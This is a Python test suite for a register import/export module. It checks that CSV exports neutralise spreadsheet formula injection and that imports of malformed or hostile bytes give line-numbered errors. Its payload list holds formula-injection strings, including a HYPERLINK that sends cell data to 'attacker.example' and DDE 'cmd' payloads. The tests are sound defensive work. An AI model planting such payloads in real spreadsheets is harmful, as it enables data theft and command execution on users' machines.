"""Registers: CSV exports neutralise cells a spreadsheet would run as formulas, and imports survive
any bytes (bad encodings, NULs, huge fields, broken quoting) with line-numbered errors.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from htq_mark.errors import RegisterError, RegisterValidationError
from htq_mark.register import load_register, parse_register_bytes
from htq_mark.register._export import export_register, write_register

from ._child import REPO_ROOT

EXAMPLE = (REPO_ROOT / "htq_mark" / "register" / "data" / "example-register.csv").read_bytes()
HEADER, FIRST, SECOND, THIRD = EXAMPLE.splitlines()[:4]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
    "''+quoted twice",
]


def _row(line: bytes, **changes: str) -> list[str]:
    fields = next(csv.reader([line.decode("utf-8")]))
    columns = next(csv.reader([HEADER.decode("utf-8")]))
    for column, value in changes.items():
        fields[columns.index(column)] = value
    return fields


def _csv(*rows: list[str]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        writer.writerow(row)
    return HEADER + b"\n" + buffer.getvalue().encode("utf-8")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_exported_cells_never_start_a_formula_and_round_trip(payload: str) -> None:
    data = _csv(_row(FIRST, title=payload, awarding_body=payload), _row(SECOND))
    register = parse_register_bytes(data, "hostile.csv")
    exported = export_register(register, "csv")
    cells = [cell for row in csv.reader(io.StringIO(exported.decode("utf-8"))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
    again = parse_register_bytes(exported, "again.csv")
    assert [r.title for r in again.records] == [r.title for r in register.records]
    assert [r.awarding_body for r in again.records] == [r.awarding_body for r in register.records]


@given(st.text(min_size=1, max_size=40).filter(lambda t: t.strip() and "\x00" not in t))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_title_exports_safely(title: str) -> None:
    try:
        register = parse_register_bytes(_csv(_row(FIRST, title=title)), "any.csv")
    except RegisterValidationError:
        return  # a title the register refuses is not exported at all
    exported = export_register(register, "csv").decode("utf-8")
    for row in csv.reader(io.StringIO(exported)):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row


def test_the_written_export_file_is_neutralised_too(tmp_path: Path) -> None:
    register = parse_register_bytes(_csv(_row(FIRST, title=PAYLOADS[0])), "hostile.csv")
    target = write_register(register, tmp_path / "export.csv", "csv")
    assert b"\n999/1001/9,\"'=HYPERLINK(" in target.read_bytes()


# ---------------------------------------------------------------- imports survive any bytes


def _problems(data: bytes) -> list[tuple[int | None, str]]:
    with pytest.raises(RegisterValidationError) as caught:
        parse_register_bytes(data, "hostile.csv")
    assert str(caught.value).startswith("hostile.csv: ")
    return [(p.line, p.message) for p in caught.value.problems]


@pytest.mark.parametrize(("name", "data", "line", "words"), [
    ("latin-1 byte", HEADER + b"\n" + FIRST.replace(b"Cyber", b"Cyb\xe9r") + b"\n", 2, "not valid UTF-8"),
    ("Windows-1252 quotes", HEADER + b"\n" + FIRST + b"\n" + SECOND.replace(b"Data", b"\x93Data\x94") + b"\n", 3,
     "not valid UTF-8"),
    ("NUL in a row", HEADER + b"\n" + FIRST + b"\n" + SECOND + b"\n" + THIRD.replace(b",", b",\x00", 1) + b"\n", 4,
     "NUL"),
    ("huge field", HEADER + b"\n" + FIRST + b"\n" + SECOND.replace(b"Data", b"D" * 300_000) + b"\n", 3,
     "longer than"),
    ("quote never closed", HEADER + b"\n" + FIRST + b"\n" + b'999/1002/0,"Open quote\n', 3, "never closed"),
    ("too many fields", HEADER + b"\n" + FIRST + b",extra,extra\n", 2, "fields but the header has"),
])
def test_bad_bytes_become_line_numbered_problems(name: str, data: bytes, line: int, words: str) -> None:
    problems = _problems(data)
    assert any(at == line and words in message for at, message in problems), problems


def test_every_problem_of_a_file_is_listed_at_once() -> None:
    data = (HEADER + b"\n" + FIRST.replace(b"Cyber", b"Cyb\xe9r") + b"\n" + SECOND.replace(b",", b",\x00", 1)
            + b"\n" + THIRD.replace(b"Level", b"L" * 200_000) + b"\n")
    lines = {line for line, _ in _problems(data)}
    assert {2, 3, 4} <= lines


@pytest.mark.parametrize(("bom", "name"), [(b"\xff\xfe", "UTF-16"), (b"\xfe\xff", "UTF-16"),
                                           (b"\xff\xfe\x00\x00", "UTF-32")])
def test_utf16_and_utf32_files_are_named_as_such(bom: bytes, name: str) -> None:
    with pytest.raises(RegisterError, match=f"{name} text; save it as UTF-8"):
        parse_register_bytes(bom + EXAMPLE.decode("utf-8").encode("utf-16-le"), "wide.csv")


def test_a_file_over_the_size_limit_is_refused_before_reading(tmp_path: Path) -> None:
    big = tmp_path / "huge.csv"
    with big.open("wb") as handle:  # sparse: takes no disk space
        handle.truncate(300 * 1024 * 1024)
    with pytest.raises(RegisterError, match="more than the .* allowed"):
        load_register(big)


@given(st.binary(max_size=3000))
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_bytes_give_a_register_or_a_register_error(data: bytes) -> None:
    for source in (data, HEADER + b"\n" + data):
        try:
            parse_register_bytes(source, "fuzz.csv")
        except RegisterValidationError as exc:
            lines = source.count(b"\n") + source.count(b"\r") + 2
            assert all(p.line is None or 1 <= p.line <= lines for p in exc.problems), exc.problems
            assert all(str(p).startswith("fuzz.csv") for p in exc.problems)
        except RegisterError as exc:
            assert str(exc).startswith("fuzz.csv: ")


@given(st.lists(st.sampled_from([FIRST, SECOND, THIRD, b"\x00", b"\xff\xfe", b'"', b",,,,", b"\r", b"=1+1",
                                 b"\xe9", b"a" * 70_000, b"{", b"}", b"[", b"]", b"\xef\xbb\xbf"]), max_size=12))
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_mix_of_rows_and_junk_gives_a_register_or_a_register_error(pieces: list[bytes]) -> None:
    data = HEADER + b"\n" + b"\n".join(pieces)
    for name in ("mix.csv", "mix.json"):
        try:
            parse_register_bytes(data, name, path=Path(name))
        except RegisterError as exc:
            assert str(exc).startswith(f"{name}: ")


@pytest.mark.parametrize(("data", "words"), [
    (b'{"format": "htq-mark-register", "records": [\n{"qualification_id": "\xff"}\n]}', "not valid UTF-8"),
    (b'{"format": "htq-mark-register",\n "records": [\n {"title": "x",}\n]}', ""),
    (b"[" * 100_000, ""),
    (b'{"records": [' + b'{"a": 1},' * 10 + b"\x00]}", ""),
])
def test_json_registers_with_bad_bytes_give_register_errors(data: bytes, words: str) -> None:
    with pytest.raises(RegisterError) as caught:
        parse_register_bytes(data, "bad.json", path=Path("bad.json"))
    assert str(caught.value).startswith("bad.json") and words in str(caught.value)


def test_cli_validate_lists_problems_by_line_without_a_traceback(tmp_path: Path) -> None:
    path = tmp_path / "hostile.csv"
    path.write_bytes(HEADER + b"\n" + FIRST.replace(b"Cyber", b"Cyb\xe9r") + b"\n" + SECOND.replace(b",", b",\x00", 1)
                     + b"\n" + b"\x00\xff" * 50 + b"\n")
    done = subprocess.run([sys.executable, "-m", "htq_mark", "register", "validate", str(path), "--format", "json"],
                          capture_output=True, text=True, cwd=REPO_ROOT, timeout=120, check=False,
                          env={**os.environ, "PYTHONPATH": str(REPO_ROOT)})
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    result = json.loads(done.stdout)
    lines = {problem["line"] for problem in result["problems"]}
    assert {2, 3, 4} <= lines, result["problems"]
